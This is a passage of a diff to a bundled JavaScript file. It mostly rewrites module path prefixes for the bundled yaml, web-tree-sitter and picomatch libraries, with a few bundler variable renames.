+  "node_modules/yaml/dist/nodes/YAMLMap.js"(exports) {
     "use strict";
     var stringifyCollection = require_stringifyCollection();
     var addPairToJSMap = require_addPairToJSMap();
@@ -10210,9 +10210,9 @@ var require_YAMLMap = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/common/map.js
+// node_modules/yaml/dist/schema/common/map.js
 var require_map = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/common/map.js"(exports) {
+  "node_modules/yaml/dist/schema/common/map.js"(exports) {
     "use strict";
     var identity = require_identity();
     var YAMLMap = require_YAMLMap();
@@ -10232,9 +10232,9 @@ var require_map = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/nodes/YAMLSeq.js
+// node_modules/yaml/dist/nodes/YAMLSeq.js
 var require_YAMLSeq = __commonJS({
-  "../../work/main/node_modules/yaml/dist/nodes/YAMLSeq.js"(exports) {
+  "node_modules/yaml/dist/nodes/YAMLSeq.js"(exports) {
     "use strict";
     var createNode = require_createNode();
     var stringifyCollection = require_stringifyCollection();
@@ -10348,9 +10348,9 @@ var require_YAMLSeq = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/common/seq.js
+// node_modules/yaml/dist/schema/common/seq.js
 var require_seq = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/common/seq.js"(exports) {
+  "node_modules/yaml/dist/schema/common/seq.js"(exports) {
     "use strict";
     var identity = require_identity();
     var YAMLSeq = require_YAMLSeq();
@@ -10370,9 +10370,9 @@ var require_seq = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/common/string.js
+// node_modules/yaml/dist/schema/common/string.js
 var require_string = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/common/string.js"(exports) {
+  "node_modules/yaml/dist/schema/common/string.js"(exports) {
     "use strict";
     var stringifyString = require_stringifyString();
     var string = {
@@ -10389,9 +10389,9 @@ var require_string = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/common/null.js
+// node_modules/yaml/dist/schema/common/null.js
 var require_null = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/common/null.js"(exports) {
+  "node_modules/yaml/dist/schema/common/null.js"(exports) {
     "use strict";
     var Scalar = require_Scalar();
     var nullTag = {
@@ -10407,9 +10407,9 @@ var require_null = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/core/bool.js
+// node_modules/yaml/dist/schema/core/bool.js
 var require_bool = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/core/bool.js"(exports) {
+  "node_modules/yaml/dist/schema/core/bool.js"(exports) {
     "use strict";
     var Scalar = require_Scalar();
     var boolTag = {
@@ -10431,9 +10431,9 @@ var require_bool = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/stringify/stringifyNumber.js
+// node_modules/yaml/dist/stringify/stringifyNumber.js
 var require_stringifyNumber = __commonJS({
-  "../../work/main/node_modules/yaml/dist/stringify/stringifyNumber.js"(exports) {
+  "node_modules/yaml/dist/stringify/stringifyNumber.js"(exports) {
     "use strict";
     function stringifyNumber({ format: format2, minFractionDigits, tag, value }) {
       if (typeof value === "bigint")
@@ -10458,9 +10458,9 @@ var require_stringifyNumber = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/core/float.js
+// node_modules/yaml/dist/schema/core/float.js
 var require_float = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/core/float.js"(exports) {
+  "node_modules/yaml/dist/schema/core/float.js"(exports) {
     "use strict";
     var Scalar = require_Scalar();
     var stringifyNumber = require_stringifyNumber();
@@ -10504,9 +10504,9 @@ var require_float = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/core/int.js
+// node_modules/yaml/dist/schema/core/int.js
 var require_int = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/core/int.js"(exports) {
+  "node_modules/yaml/dist/schema/core/int.js"(exports) {
     "use strict";
     var stringifyNumber = require_stringifyNumber();
     var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
@@ -10549,9 +10549,9 @@ var require_int = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/core/schema.js
+// node_modules/yaml/dist/schema/core/schema.js
 var require_schema2 = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/core/schema.js"(exports) {
+  "node_modules/yaml/dist/schema/core/schema.js"(exports) {
     "use strict";
     var map = require_map();
     var _null = require_null();
@@ -10577,9 +10577,9 @@ var require_schema2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/json/schema.js
+// node_modules/yaml/dist/schema/json/schema.js
 var require_schema3 = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/json/schema.js"(exports) {
+  "node_modules/yaml/dist/schema/json/schema.js"(exports) {
     "use strict";
     var Scalar = require_Scalar();
     var map = require_map();
@@ -10644,9 +10644,9 @@ var require_schema3 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/yaml-1.1/binary.js
+// node_modules/yaml/dist/schema/yaml-1.1/binary.js
 var require_binary = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/yaml-1.1/binary.js"(exports) {
+  "node_modules/yaml/dist/schema/yaml-1.1/binary.js"(exports) {
     "use strict";
     var node_buffer = __require("buffer");
     var Scalar = require_Scalar();
@@ -10710,9 +10710,9 @@ var require_binary = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/yaml-1.1/pairs.js
+// node_modules/yaml/dist/schema/yaml-1.1/pairs.js
 var require_pairs = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/yaml-1.1/pairs.js"(exports) {
+  "node_modules/yaml/dist/schema/yaml-1.1/pairs.js"(exports) {
     "use strict";
     var identity = require_identity();
     var Pair = require_Pair();
@@ -10788,9 +10788,9 @@ ${cn.comment}` : item.comment;
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/yaml-1.1/omap.js
+// node_modules/yaml/dist/schema/yaml-1.1/omap.js
 var require_omap = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/yaml-1.1/omap.js"(exports) {
+  "node_modules/yaml/dist/schema/yaml-1.1/omap.js"(exports) {
     "use strict";
     var identity = require_identity();
     var toJS = require_toJS();
@@ -10866,9 +10866,9 @@ var require_omap = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/yaml-1.1/bool.js
+// node_modules/yaml/dist/schema/yaml-1.1/bool.js
 var require_bool2 = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/yaml-1.1/bool.js"(exports) {
+  "node_modules/yaml/dist/schema/yaml-1.1/bool.js"(exports) {
     "use strict";
     var Scalar = require_Scalar();
     function boolStringify({ value, source }, ctx) {
@@ -10898,9 +10898,9 @@ var require_bool2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/yaml-1.1/float.js
+// node_modules/yaml/dist/schema/yaml-1.1/float.js
 var require_float2 = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/yaml-1.1/float.js"(exports) {
+  "node_modules/yaml/dist/schema/yaml-1.1/float.js"(exports) {
     "use strict";
     var Scalar = require_Scalar();
     var stringifyNumber = require_stringifyNumber();
@@ -10947,9 +10947,9 @@ var require_float2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/yaml-1.1/int.js
+// node_modules/yaml/dist/schema/yaml-1.1/int.js
 var require_int2 = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/yaml-1.1/int.js"(exports) {
+  "node_modules/yaml/dist/schema/yaml-1.1/int.js"(exports) {
     "use strict";
     var stringifyNumber = require_stringifyNumber();
     var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
@@ -11026,9 +11026,9 @@ var require_int2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/yaml-1.1/set.js
+// node_modules/yaml/dist/schema/yaml-1.1/set.js
 var require_set = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/yaml-1.1/set.js"(exports) {
+  "node_modules/yaml/dist/schema/yaml-1.1/set.js"(exports) {
     "use strict";
     var identity = require_identity();
     var Pair = require_Pair();
@@ -11115,9 +11115,9 @@ var require_set = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/yaml-1.1/timestamp.js
+// node_modules/yaml/dist/schema/yaml-1.1/timestamp.js
 var require_timestamp = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/yaml-1.1/timestamp.js"(exports) {
+  "node_modules/yaml/dist/schema/yaml-1.1/timestamp.js"(exports) {
     "use strict";
     var stringifyNumber = require_stringifyNumber();
     function parseSexagesimal(str2, asBigInt) {
@@ -11203,9 +11203,9 @@ var require_timestamp = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/yaml-1.1/schema.js
+// node_modules/yaml/dist/schema/yaml-1.1/schema.js
 var require_schema4 = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/yaml-1.1/schema.js"(exports) {
+  "node_modules/yaml/dist/schema/yaml-1.1/schema.js"(exports) {
     "use strict";
     var map = require_map();
     var _null = require_null();
@@ -11247,9 +11247,9 @@ var require_schema4 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/tags.js
+// node_modules/yaml/dist/schema/tags.js
 var require_tags = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/tags.js"(exports) {
+  "node_modules/yaml/dist/schema/tags.js"(exports) {
     "use strict";
     var map = require_map();
     var _null = require_null();
@@ -11341,9 +11341,9 @@ var require_tags = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/Schema.js
+// node_modules/yaml/dist/schema/Schema.js
 var require_Schema = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/Schema.js"(exports) {
+  "node_modules/yaml/dist/schema/Schema.js"(exports) {
     "use strict";
     var identity = require_identity();
     var map = require_map();
@@ -11373,9 +11373,9 @@ var require_Schema = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/stringify/stringifyDocument.js
+// node_modules/yaml/dist/stringify/stringifyDocument.js
 var require_stringifyDocument = __commonJS({
-  "../../work/main/node_modules/yaml/dist/stringify/stringifyDocument.js"(exports) {
+  "node_modules/yaml/dist/stringify/stringifyDocument.js"(exports) {
     "use strict";
     var identity = require_identity();
     var stringify = require_stringify();
@@ -11453,9 +11453,9 @@ var require_stringifyDocument = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/doc/Document.js
+// node_modules/yaml/dist/doc/Document.js
 var require_Document = __commonJS({
-  "../../work/main/node_modules/yaml/dist/doc/Document.js"(exports) {
+  "node_modules/yaml/dist/doc/Document.js"(exports) {
     "use strict";
     var Alias = require_Alias();
     var Collection = require_Collection();
@@ -11762,9 +11762,9 @@ var require_Document = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/errors.js
+// node_modules/yaml/dist/errors.js
 var require_errors2 = __commonJS({
-  "../../work/main/node_modules/yaml/dist/errors.js"(exports) {
+  "node_modules/yaml/dist/errors.js"(exports) {
     "use strict";
     var YAMLError = class extends Error {
       constructor(name2, pos, code2, message) {
@@ -11827,9 +11827,9 @@ ${pointer}
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/resolve-props.js
+// node_modules/yaml/dist/compose/resolve-props.js
 var require_resolve_props = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/resolve-props.js"(exports) {
+  "node_modules/yaml/dist/compose/resolve-props.js"(exports) {
     "use strict";
     function resolveProps(tokens, { flow, indicator, next, offset, onError, parentIndent, startOnNewline }) {
       let spaceBefore = false;
@@ -11961,9 +11961,9 @@ var require_resolve_props = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/util-contains-newline.js
+// node_modules/yaml/dist/compose/util-contains-newline.js
 var require_util_contains_newline = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/util-contains-newline.js"(exports) {
+  "node_modules/yaml/dist/compose/util-contains-newline.js"(exports) {
     "use strict";
     function containsNewline(key) {
       if (!key)
@@ -12003,9 +12003,9 @@ var require_util_contains_newline = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/util-flow-indent-check.js
+// node_modules/yaml/dist/compose/util-flow-indent-check.js
 var require_util_flow_indent_check = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/util-flow-indent-check.js"(exports) {
+  "node_modules/yaml/dist/compose/util-flow-indent-check.js"(exports) {
     "use strict";
     var utilContainsNewline = require_util_contains_newline();
     function flowIndentCheck(indent, fc, onError) {
@@ -12021,9 +12021,9 @@ var require_util_flow_indent_check = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/util-map-includes.js
+// node_modules/yaml/dist/compose/util-map-includes.js
 var require_util_map_includes = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/util-map-includes.js"(exports) {
+  "node_modules/yaml/dist/compose/util-map-includes.js"(exports) {
     "use strict";
     var identity = require_identity();
     function mapIncludes(ctx, items, search) {
@@ -12037,9 +12037,9 @@ var require_util_map_includes = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/resolve-block-map.js
+// node_modules/yaml/dist/compose/resolve-block-map.js
 var require_resolve_block_map = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/resolve-block-map.js"(exports) {
+  "node_modules/yaml/dist/compose/resolve-block-map.js"(exports) {
     "use strict";
     var Pair = require_Pair();
     var YAMLMap = require_YAMLMap();
@@ -12145,9 +12145,9 @@ var require_resolve_block_map = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/resolve-block-seq.js
+// node_modules/yaml/dist/compose/resolve-block-seq.js
 var require_resolve_block_seq = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/resolve-block-seq.js"(exports) {
+  "node_modules/yaml/dist/compose/resolve-block-seq.js"(exports) {
     "use strict";
     var YAMLSeq = require_YAMLSeq();
     var resolveProps = require_resolve_props();
@@ -12196,9 +12196,9 @@ var require_resolve_block_seq = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/resolve-end.js
+// node_modules/yaml/dist/compose/resolve-end.js
 var require_resolve_end = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/resolve-end.js"(exports) {
+  "node_modules/yaml/dist/compose/resolve-end.js"(exports) {
     "use strict";
     function resolveEnd(end, offset, reqSpace, onError) {
       let comment = "";
@@ -12239,9 +12239,9 @@ var require_resolve_end = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/resolve-flow-collection.js
+// node_modules/yaml/dist/compose/resolve-flow-collection.js
 var require_resolve_flow_collection = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/resolve-flow-collection.js"(exports) {
+  "node_modules/yaml/dist/compose/resolve-flow-collection.js"(exports) {
     "use strict";
     var identity = require_identity();
     var Pair = require_Pair();
@@ -12433,9 +12433,9 @@ var require_resolve_flow_collection = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/compose-collection.js
+// node_modules/yaml/dist/compose/compose-collection.js
 var require_compose_collection = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/compose-collection.js"(exports) {
+  "node_modules/yaml/dist/compose/compose-collection.js"(exports) {
     "use strict";
     var identity = require_identity();
     var Scalar = require_Scalar();
@@ -12498,9 +12498,9 @@ var require_compose_collection = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/resolve-block-scalar.js
+// node_modules/yaml/dist/compose/resolve-block-scalar.js
 var require_resolve_block_scalar = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/resolve-block-scalar.js"(exports) {
+  "node_modules/yaml/dist/compose/resolve-block-scalar.js"(exports) {
     "use strict";
     var Scalar = require_Scalar();
     function resolveBlockScalar(ctx, scalar, onError) {
@@ -12681,9 +12681,9 @@ var require_resolve_block_scalar = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/resolve-flow-scalar.js
+// node_modules/yaml/dist/compose/resolve-flow-scalar.js
 var require_resolve_flow_scalar = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/resolve-flow-scalar.js"(exports) {
+  "node_modules/yaml/dist/compose/resolve-flow-scalar.js"(exports) {
     "use strict";
     var Scalar = require_Scalar();
     var resolveEnd = require_resolve_end();
@@ -12902,9 +12902,9 @@ var require_resolve_flow_scalar = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/compose-scalar.js
+// node_modules/yaml/dist/compose/compose-scalar.js
 var require_compose_scalar = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/compose-scalar.js"(exports) {
+  "node_modules/yaml/dist/compose/compose-scalar.js"(exports) {
     "use strict";
     var identity = require_identity();
     var Scalar = require_Scalar();
@@ -12983,9 +12983,9 @@ var require_compose_scalar = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/util-empty-scalar-position.js
+// node_modules/yaml/dist/compose/util-empty-scalar-position.js
 var require_util_empty_scalar_position = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/util-empty-scalar-position.js"(exports) {
+  "node_modules/yaml/dist/compose/util-empty-scalar-position.js"(exports) {
     "use strict";
     function emptyScalarPosition(offset, before, pos) {
       if (before) {
@@ -13013,9 +13013,9 @@ var require_util_empty_scalar_position = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/compose-node.js
+// node_modules/yaml/dist/compose/compose-node.js
 var require_compose_node = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/compose-node.js"(exports) {
+  "node_modules/yaml/dist/compose/compose-node.js"(exports) {
     "use strict";
     var Alias = require_Alias();
     var identity = require_identity();
@@ -13119,9 +13119,9 @@ var require_compose_node = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/compose-doc.js
+// node_modules/yaml/dist/compose/compose-doc.js
 var require_compose_doc = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/compose-doc.js"(exports) {
+  "node_modules/yaml/dist/compose/compose-doc.js"(exports) {
     "use strict";
     var Document = require_Document();
     var composeNode = require_compose_node();
@@ -13162,9 +13162,9 @@ var require_compose_doc = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/compose/composer.js
+// node_modules/yaml/dist/compose/composer.js
 var require_composer = __commonJS({
-  "../../work/main/node_modules/yaml/dist/compose/composer.js"(exports) {
+  "node_modules/yaml/dist/compose/composer.js"(exports) {
     "use strict";
     var node_process = __require("process");
     var directives = require_directives();
@@ -13370,9 +13370,9 @@ ${end.comment}` : end.comment;
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/parse/cst-scalar.js
+// node_modules/yaml/dist/parse/cst-scalar.js
 var require_cst_scalar = __commonJS({
-  "../../work/main/node_modules/yaml/dist/parse/cst-scalar.js"(exports) {
+  "node_modules/yaml/dist/parse/cst-scalar.js"(exports) {
     "use strict";
     var resolveBlockScalar = require_resolve_block_scalar();
     var resolveFlowScalar = require_resolve_flow_scalar();
@@ -13555,9 +13555,9 @@ var require_cst_scalar = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/parse/cst-stringify.js
+// node_modules/yaml/dist/parse/cst-stringify.js
 var require_cst_stringify = __commonJS({
-  "../../work/main/node_modules/yaml/dist/parse/cst-stringify.js"(exports) {
+  "node_modules/yaml/dist/parse/cst-stringify.js"(exports) {
     "use strict";
     var stringify = (cst) => "type" in cst ? stringifyToken(cst) : stringifyItem(cst);
     function stringifyToken(token) {
@@ -13616,9 +13616,9 @@ var require_cst_stringify = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/parse/cst-visit.js
+// node_modules/yaml/dist/parse/cst-visit.js
 var require_cst_visit = __commonJS({
-  "../../work/main/node_modules/yaml/dist/parse/cst-visit.js"(exports) {
+  "node_modules/yaml/dist/parse/cst-visit.js"(exports) {
     "use strict";
     var BREAK = /* @__PURE__ */ Symbol("break visit");
     var SKIP = /* @__PURE__ */ Symbol("skip children");
@@ -13678,9 +13678,9 @@ var require_cst_visit = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/parse/cst.js
+// node_modules/yaml/dist/parse/cst.js
 var require_cst = __commonJS({
-  "../../work/main/node_modules/yaml/dist/parse/cst.js"(exports) {
+  "node_modules/yaml/dist/parse/cst.js"(exports) {
     "use strict";
     var cstScalar = require_cst_scalar();
     var cstStringify = require_cst_stringify();
@@ -13780,9 +13780,9 @@ var require_cst = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/parse/lexer.js
+// node_modules/yaml/dist/parse/lexer.js
 var require_lexer = __commonJS({
-  "../../work/main/node_modules/yaml/dist/parse/lexer.js"(exports) {
+  "node_modules/yaml/dist/parse/lexer.js"(exports) {
     "use strict";
     var cst = require_cst();
     function isEmpty(ch) {
@@ -14098,9 +14098,9 @@ var require_lexer = __commonJS({
         }
       }
       *parseQuotedScalar() {
-        const quote = this.charAt(0);
-        let end = this.buffer.indexOf(quote, this.pos + 1);
-        if (quote === "'") {
+        const quote2 = this.charAt(0);
+        let end = this.buffer.indexOf(quote2, this.pos + 1);
+        if (quote2 === "'") {
           while (end !== -1 && this.buffer[end + 1] === "'")
             end = this.buffer.indexOf("'", end + 2);
         } else {
@@ -14369,9 +14369,9 @@ var require_lexer = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/parse/line-counter.js
+// node_modules/yaml/dist/parse/line-counter.js
 var require_line_counter = __commonJS({
-  "../../work/main/node_modules/yaml/dist/parse/line-counter.js"(exports) {
+  "node_modules/yaml/dist/parse/line-counter.js"(exports) {
     "use strict";
     var LineCounter = class {
       constructor() {
@@ -14400,9 +14400,9 @@ var require_line_counter = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/parse/parser.js
+// node_modules/yaml/dist/parse/parser.js
 var require_parser = __commonJS({
-  "../../work/main/node_modules/yaml/dist/parse/parser.js"(exports) {
+  "node_modules/yaml/dist/parse/parser.js"(exports) {
     "use strict";
     var node_process = __require("process");
     var cst = require_cst();
@@ -15274,9 +15274,9 @@ var require_parser = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/public-api.js
+// node_modules/yaml/dist/public-api.js
 var require_public_api = __commonJS({
-  "../../work/main/node_modules/yaml/dist/public-api.js"(exports) {
+  "node_modules/yaml/dist/public-api.js"(exports) {
     "use strict";
     var composer = require_composer();
     var Document = require_Document();
@@ -15371,9 +15371,9 @@ var require_public_api = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/index.js
+// node_modules/yaml/dist/index.js
 var require_dist2 = __commonJS({
-  "../../work/main/node_modules/yaml/dist/index.js"(exports) {
+  "node_modules/yaml/dist/index.js"(exports) {
     "use strict";
     var composer = require_composer();
     var Document = require_Document();
@@ -15423,7 +15423,7 @@ var require_dist2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/web-tree-sitter/web-tree-sitter.js
+// node_modules/web-tree-sitter/web-tree-sitter.js
 var web_tree_sitter_exports = {};
 __export(web_tree_sitter_exports, {
   CaptureQuantifier: () => CaptureQuantifier,
@@ -15853,16 +15853,16 @@ async function Module2(moduleArg = {}) {
       return receiveInstance(result2["instance"], result2["module"]);
     }
     __name(receiveInstantiationResult, "receiveInstantiationResult");
-    var info2 = getWasmImports();
+    var info22 = getWasmImports();
     if (Module["instantiateWasm"]) {
       return new Promise((resolve12, reject) => {
-        Module["instantiateWasm"](info2, (mod, inst) => {
+        Module["instantiateWasm"](info22, (mod, inst) => {
           resolve12(receiveInstance(mod, inst));
         });
       });
     }
     wasmBinaryFile ??= findWasmBinary();
-    var result = await instantiateAsync(wasmBinary, wasmBinaryFile, info2);
+    var result = await instantiateAsync(wasmBinary, wasmBinaryFile, info22);
     var exports = receiveInstantiationResult(result);
     return exports;
   }
@@ -17375,7 +17375,7 @@ function parsePattern(index, stepType, stepValueId, captureNames, stringValues, 
 }
 var __defProp2, __name, Edit, SIZE_OF_SHORT, SIZE_OF_INT, SIZE_OF_CURSOR, SIZE_OF_NODE, SIZE_OF_POINT, SIZE_OF_RANGE, ZERO_POINT, INTERNAL, C, finalizer, LookaheadIterator, finalizer2, Tree, finalizer3, TreeCursor, Node, LANGUAGE_FUNCTION_REGEX, Language, web_tree_sitter_default, Module3, TRANSFER_BUFFER, LANGUAGE_VERSION, MIN_COMPATIBLE_VERSION, finalizer4, Parser, PREDICATE_STEP_TYPE_CAPTURE, PREDICATE_STEP_TYPE_STRING, QUERY_WORD_REGEX, CaptureQuantifier, isCaptureStep, isStringStep, QueryErrorKind, QueryError, finalizer5, Query;
 var init_web_tree_sitter = __esm({
-  "../../work/main/node_modules/web-tree-sitter/web-tree-sitter.js"() {
+  "node_modules/web-tree-sitter/web-tree-sitter.js"() {
     __defProp2 = Object.defineProperty;
     __name = (target, value) => __defProp2(target, "name", { value, configurable: true });
     Edit = class {
@@ -19009,10 +19009,10 @@ ${JSON.stringify(symbolNames, null, 2)}`);
       PatternStructure: 5
     };
     QueryError = class _QueryError extends Error {
-      constructor(kind, info2, index, length) {
-        super(_QueryError.formatMessage(kind, info2));
+      constructor(kind, info22, index, length) {
+        super(_QueryError.formatMessage(kind, info22));
         this.kind = kind;
-        this.info = info2;
+        this.info = info22;
         this.index = index;
         this.length = length;
         this.name = "QueryError";
@@ -19025,18 +19025,18 @@ ${JSON.stringify(symbolNames, null, 2)}`);
         __name(this, "QueryError");
       }
       /** Formats an error message based on the error kind and info */
-      static formatMessage(kind, info2) {
+      static formatMessage(kind, info22) {
         switch (kind) {
           case QueryErrorKind.NodeName:
-            return `Bad node name '${info2.word}'`;
+            return `Bad node name '${info22.word}'`;
           case QueryErrorKind.FieldName:
-            return `Bad field name '${info2.word}'`;
+            return `Bad field name '${info22.word}'`;
           case QueryErrorKind.CaptureName:
-            return `Bad capture name @${info2.word}`;
+            return `Bad capture name @${info22.word}`;
           case QueryErrorKind.PatternStructure:
-            return `Bad pattern structure at offset ${info2.suffix}`;
+            return `Bad pattern structure at offset ${info22.suffix}`;
           case QueryErrorKind.Syntax:
-            return `Bad syntax at offset ${info2.suffix}`;
+            return `Bad syntax at offset ${info22.suffix}`;
         }
       }
     };
@@ -19481,9 +19481,9 @@ ${JSON.stringify(symbolNames, null, 2)}`);
   }
 });
 
-// ../../work/main/node_modules/picomatch/lib/constants.js
+// node_modules/picomatch/lib/constants.js
 var require_constants = __commonJS({
-  "../../work/main/node_modules/picomatch/lib/constants.js"(exports, module2) {
+  "node_modules/picomatch/lib/constants.js"(exports, module2) {
     "use strict";
     var WIN_SLASH = "\\\\/";
     var WIN_NO_SLASH = `[^${WIN_SLASH}]`;
@@ -19683,9 +19683,9 @@ var require_constants = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/picomatch/lib/utils.js
+// node_modules/picomatch/lib/utils.js
 var require_utils2 = __commonJS({
-  "../../work/main/node_modules/picomatch/lib/utils.js"(exports) {
+  "node_modules/picomatch/lib/utils.js"(exports) {
     "use strict";
     var {
       REGEX_BACKSLASH,
@@ -19747,9 +19747,9 @@ var require_utils2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/picomatch/lib/scan.js
+// node_modules/picomatch/lib/scan.js
 var require_scan = __commonJS({
-  "../../work/main/node_modules/picomatch/lib/scan.js"(exports, module2) {
+  "node_modules/picomatch/lib/scan.js"(exports, module2) {
     "use strict";
     var utils = require_utils2();
     var {
@@ -20085,9 +20085,9 @@ var require_scan = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/picomatch/lib/parse.js
+// node_modules/picomatch/lib/parse.js
 var require_parse = __commonJS({
-  "../../work/main/node_modules/picomatch/lib/parse.js"(exports, module2) {
+  "node_modules/picomatch/lib/parse.js"(exports, module2) {
     "use strict";
     var constants = require_constants();
     var utils = require_utils2();
@@ -20118,7 +20118,7 @@ var require_parse = __commonJS({
       const parts2 = [];
       let bracket = 0;
       let paren = 0;
-      let quote = 0;
+      let quote2 = 0;
       let value = "";
       let escaped = false;
       for (const ch of input) {
@@ -20133,11 +20133,11 @@ var require_parse = __commonJS({
           continue;
         }
         if (ch === '"') {
-          quote = quote === 1 ? 0 : 1;
+          quote2 = quote2 === 1 ? 0 : 1;
           value += ch;
           continue;
         }
-        if (quote === 0) {
+        if (quote2 === 0) {
           if (ch === "[") {
             bracket++;
           } else if (ch === "]" && bracket > 0) {
@@ -20214,7 +20214,7 @@ var require_parse = __commonJS({
       }
       let bracket = 0;
       let paren = 0;
-      let quote = 0;
+      let quote2 = 0;
       let escaped = false;
       for (let i2 = 1; i2 < pattern.length; i2++) {
         const ch = pattern[i2];
@@ -20227,10 +20227,10 @@ var require_parse = __commonJS({
           continue;
         }
         if (ch === '"') {
-          quote = quote === 1 ? 0 : 1;
+          quote2 = quote2 === 1 ? 0 : 1;
           continue;
         }
-        if (quote === 1) {
+        if (quote2 === 1) {
           continue;
         }
         if (ch === "[") {
@@ -21100,9 +21100,9 @@ var require_parse = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/picomatch/lib/picomatch.js
+// node_modules/picomatch/lib/picomatch.js
 var require_picomatch = __commonJS({
-  "../../work/main/node_modules/picomatch/lib/picomatch.js"(exports, module2) {
+  "node_modules/picomatch/lib/picomatch.js"(exports, module2) {
     "use strict";
     var scan2 = require_scan();
     var parse3 = require_parse();
@@ -21240,9 +21240,9 @@ var require_picomatch = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/picomatch/index.js
+// node_modules/picomatch/index.js
 var require_picomatch2 = __commonJS({
